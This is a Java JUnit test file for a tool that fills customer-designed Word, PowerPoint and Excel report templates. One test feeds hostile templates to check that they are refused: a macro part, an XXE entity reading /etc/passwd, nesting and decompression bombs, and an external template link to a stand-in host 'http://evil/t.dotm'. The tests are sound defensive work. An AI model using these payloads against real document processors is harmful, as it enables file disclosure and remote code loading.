package io.tocsin.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tocsin.report.Format;
import io.tocsin.report.Report;
import io.tocsin.rule.RuleProblem;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.util.Units;
import org.apache.poi.xddf.usermodel.chart.BarDirection;
import org.apache.poi.xddf.usermodel.chart.ChartTypes;
import org.apache.poi.xddf.usermodel.chart.XDDFBarChartData;
import org.apache.poi.xddf.usermodel.chart.XDDFDataSourcesFactory;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFSlide;
import org.apache.poi.xslf.usermodel.XSLFTable;
import org.apache.poi.xslf.usermodel.XSLFTextBox;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFChart;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFRun;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Templates that others designed, made here with POI as their programs would make them. */
class OwnTemplateTest {
    private static final String REPORT = """
            title: Web traffic
            formats: [docx, pptx, xlsx]
            template: own.%s
            figures: {users: {distinct: user.name}}
            sections:
              - chart: {name: status, heading: Status, type: column, by: status}
              - events: {heading: Events, fields: [time, user.name, message]}
            """;

    @TempDir
    private Path folder;

    @SuppressWarnings("NullAway.Init")
    private Stage stage;

    @BeforeEach
    void open() throws IOException {
        stage = new Stage(folder);
    }

    @AfterEach
    void close() {
        stage.close();
    }

    @Test
    void givenPlaceholdersThatWordCutIntoRuns_whenFilled_thenTheTextIsThereInTheLookOfTheFirstRun() throws IOException {
        try (XWPFDocument template = new XWPFDocument()) {
            XWPFParagraph paragraph = template.createParagraph();
            for (String part : List.of("All of {", "{us", "ers", "}} users on {{period", "}} saw {{ title }}.")) {
                XWPFRun run = paragraph.createRun();
                run.setText(part);
                run.setBold(part.equals("{us") || part.startsWith("All"));
            }
            save(template::write, "own.docx");
        }
        try (XWPFDocument word = word(Stage.events(20))) {
            XWPFParagraph paragraph = word.getParagraphs().getFirst();
            assertThat(paragraph.getText()).isEqualTo("All of 10 users on 1 Jul 2024 saw Web traffic.");
            assertThat(paragraph.getRuns().getFirst().isBold()).isTrue();
        }
    }

    @Test
    void givenARowThatSpeaksOfEvents_whenFilled_thenItRepeatsForEachAndTheOthersStay() throws IOException {
        try (XWPFDocument template = new XWPFDocument()) {
            XWPFTable table = template.createTable(3, 2);
            table.getRow(0).getCell(0).setText("Who");
            table.getRow(1).getCell(0).setText("{{events[].user.name}}");
            table.getRow(1).getCell(1).setText("{{events[].message}} of {{title}}");
            table.getRow(2).getCell(0).setText("{{events.count}} in all");
            save(template::write, "own.docx");
        }
        try (XWPFDocument word = word(Stage.events(8))) {
            XWPFTable table = word.getTables().getFirst();
            assertThat(table.getNumberOfRows()).isEqualTo(10);
            assertThat(table.getRow(8).getCell(0).getText()).isEqualTo("user7");
            assertThat(table.getRow(8).getCell(1).getText()).isEqualTo("event number 7 of Web traffic");
            assertThat(table.getRow(9).getCell(0).getText()).isEqualTo("8 in all");
        }
    }

    @Test
    void givenAChartWithTheSectionsName_whenFilled_thenItsFiguresChangeAndItsColourStays() throws Exception {
        try (XWPFDocument template = new XWPFDocument()) {
            XWPFChart chart = template.createChart(5 * Units.EMU_PER_CENTIMETER, 5 * Units.EMU_PER_CENTIMETER);
            var data = (XDDFBarChartData) chart.createData(
                    ChartTypes.BAR,
                    chart.createCategoryAxis(org.apache.poi.xddf.usermodel.chart.AxisPosition.BOTTOM),
                    chart.createValueAxis(org.apache.poi.xddf.usermodel.chart.AxisPosition.LEFT));
            data.setBarDirection(BarDirection.BAR);
            data.addSeries(
                            XDDFDataSourcesFactory.fromArray(new String[] {"old"}, "Sheet1!$A$2:$A$2", 0),
                            XDDFDataSourcesFactory.fromArray(new Double[] {1.0}, "Sheet1!$B$2:$B$2", 1))
                    .setFillProperties(new org.apache.poi.xddf.usermodel.XDDFSolidFillProperties(
                            org.apache.poi.xddf.usermodel.XDDFColor.from(new byte[] {1, 2, 3})));
            chart.plot(data);
            XWPFRun run = template.getParagraphs().getLast().getRuns().getFirst();
            run.getCTR().getDrawingArray(0).getInlineArray(0).getDocPr().setDescr("{{chart:status}}");
            save(template::write, "own.docx");
        }
        try (XWPFDocument word = word(Stage.events(8))) {
            XWPFChart chart = word.getCharts().getFirst();
            var series = chart.getChartSeries().getFirst().getSeries(0);
            assertThat(series.getCategoryData().getPointAt(0)).isEqualTo("200");
            assertThat(series.getValuesData().getPointCount()).isEqualTo(3);
            assertThat(chart.getCTChart().xmlText()).contains("010203").doesNotContain("old");
            assertThat(chart.getWorkbook().getSheetAt(0).getRow(1).getCell(1).getNumericCellValue())
                    .isEqualTo(3);
        }
    }

    @Test
    void givenASlideWithARowOfEvents_whenThereAreMoreThanFit_thenTheSlideRepeatsWithItsHeader() throws IOException {
        try (XMLSlideShow template = new XMLSlideShow()) {
            XSLFSlide slide = template.createSlide();
            XSLFTextBox box = slide.createTextBox();
            box.setAnchor(new java.awt.Rectangle(20, 20, 300, 40));
            box.setText("{{title}}");
            XSLFTable table = slide.createTable(2, 2);
            table.setAnchor(new java.awt.Rectangle(20, 100, 600, 60));
            table.getCell(0, 0).setText("Who");
            table.getCell(1, 0).setText("{{events[].user.name}}");
            table.getCell(1, 1).setText("{{events[].message}}");
            table.getRows().forEach(row -> row.setHeight(30));
            save(template::write, "own.pptx");
        }
        Path file = stage.render(stage.report(REPORT.formatted("pptx"), Stage.events(40)), Format.PPTX);
        try (InputStream in = Files.newInputStream(file);
                XMLSlideShow show = new XMLSlideShow(in)) {
            List<XSLFTable> tables = show.getSlides().stream()
                    .flatMap(slide -> slide.getShapes().stream())
                    .filter(XSLFTable.class::isInstance)
                    .map(XSLFTable.class::cast)
                    .toList();
            assertThat(tables).hasSizeGreaterThan(2);
            assertThat(tables)
                    .allSatisfy(
                            table -> assertThat(table.getCell(0, 0).getText()).isEqualTo("Who"));
            assertThat(tables.stream()
                            .mapToInt(table -> table.getNumberOfRows() - 1)
                            .sum())
                    .isEqualTo(40);
            assertThat(tables.getLast()
                            .getCell(tables.getLast().getNumberOfRows() - 1, 1)
                            .getText())
                    .isEqualTo("event number 39");
        }
    }

    @Test
    void givenARowOfASheet_whenFilled_thenItRepeatsAndWhatIsBelowMovesDown() throws IOException {
        try (XSSFWorkbook template = new XSSFWorkbook()) {
            XSSFSheet sheet = template.createSheet("Mine");
            sheet.createRow(0).createCell(0).setCellValue("{{title}}");
            sheet.getRow(0).createCell(1).setCellValue("{{events.count}}");
            XSSFRow row = sheet.createRow(2);
            row.createCell(0).setCellValue("{{events[].user.name}}");
            row.createCell(1).setCellValue("{{events[].message}}");
            sheet.createRow(4).createCell(0).setCellValue("{{period}}");
            sheet.addMergedRegion(new CellRangeAddress(4, 4, 0, 2));
            save(template::write, "own.xlsx");
        }
        Path file = stage.render(stage.report(REPORT.formatted("xlsx"), Stage.events(1_200)), Format.XLSX);
        try (InputStream in = Files.newInputStream(file);
                XSSFWorkbook workbook = new XSSFWorkbook(in)) {
            XSSFSheet sheet = workbook.getSheet("Mine");
            assertThat(sheet.getRow(0).getCell(1).getNumericCellValue()).isEqualTo(1_200);
            assertThat(sheet.getRow(1_201).getCell(1).getStringCellValue()).isEqualTo("event number 1199");
            assertThat(sheet.getRow(1_203).getCell(0).getStringCellValue()).isEqualTo("1 Jul 2024");
            assertThat(sheet.getMergedRegion(0).getFirstRow()).isEqualTo(1_203);
        }
    }

    @Test
    void givenPlaceholdersThatNameNothing_whenChecked_thenAllAreToldAtOnceWithTheirPlace() throws IOException {
        try (XWPFDocument template = new XWPFDocument()) {
            template.createParagraph().createRun().setText("{{titel}} and {{events[].nobody}} and {{other[].x}}");
            template.createParagraph().createRun().setText("{{section:none}} {{title}} {{section:events}}");
            save(template::write, "own.docx");
        }
        List<String> problems = new TemplateCheck(stage.templates)
                .problems(stage.definition(REPORT.formatted("docx"))).stream()
                        .map(RuleProblem::toString)
                        .toList();

        assertThat(problems)
                .hasSize(4)
                .allMatch(problem -> problem.contains("own.docx") && problem.contains("word/document.xml"));
        assertThat(problems.toString())
                .contains("{{titel}}", "{{events[].nobody}}", "{{other[].x}}", "{{section:none}}");
    }

    @Test
    void givenTemplatesThatMayHarm_whenUsed_thenEachIsRefusedForWhatItIs() throws IOException {
        refused(stream("word/vbaProject.bin", "x"), "macros");
        refused(stream("word/document.xml", "<a>"), "broken XML");
        refused(
                stream("word/document.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
                "DOCTYPE");
        refused(stream("word/document.xml", "<a>".repeat(1_000) + "</a>".repeat(1_000)), "1,000");
        OfficePackage fetching = WordDesign.file();
        fetching.relate("word/document.xml", "attachedTemplate", "template");
        org.w3c.dom.Element relation = (org.w3c.dom.Element)
                fetching.relations("word/document.xml").getDocumentElement().getLastChild();
        relation.setAttribute("TargetMode", "External");
        relation.setAttribute("Target", "http://evil/t.dotm");
        refused(fetching, "http://evil/t.dotm");
        refused(stream("word/document.xml", " ".repeat(60 << 20)), "unpacks to more");
    }

    private void refused(OfficePackage template, String why) throws IOException {
        Path file = stage.templates.resolve("own.docx");
        try (OutputStream out = Files.newOutputStream(file)) {
            template.write(out);
        }
        Report report = stage.report(REPORT.formatted("docx"), Stage.events(1));
        assertThatThrownBy(() -> stage.render(report, Format.DOCX))
                .isInstanceOf(TemplateException.class)
                .hasMessageContaining("own.docx")
                .hasMessageContaining(why.equals("1,000") ? "200" : why);
    }

    private static OfficePackage stream(String part, String content) throws IOException {
        OfficePackage template = WordDesign.file();
        template.put(part, out -> out.write(content.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
        return template;
    }

    private interface Writing {
        void to(OutputStream out) throws IOException;
    }

    private void save(Writing template, String name) throws IOException {
        try (OutputStream out = Files.newOutputStream(stage.templates.resolve(name))) {
            template.to(out);
        }
    }

    private XWPFDocument word(List<io.tocsin.event.Event> events) throws IOException {
        Path file = stage.render(stage.report(REPORT.formatted("docx"), events), Format.DOCX);
        try (InputStream in = Files.newInputStream(file)) {
            return new XWPFDocument(in);
        }
    }
}
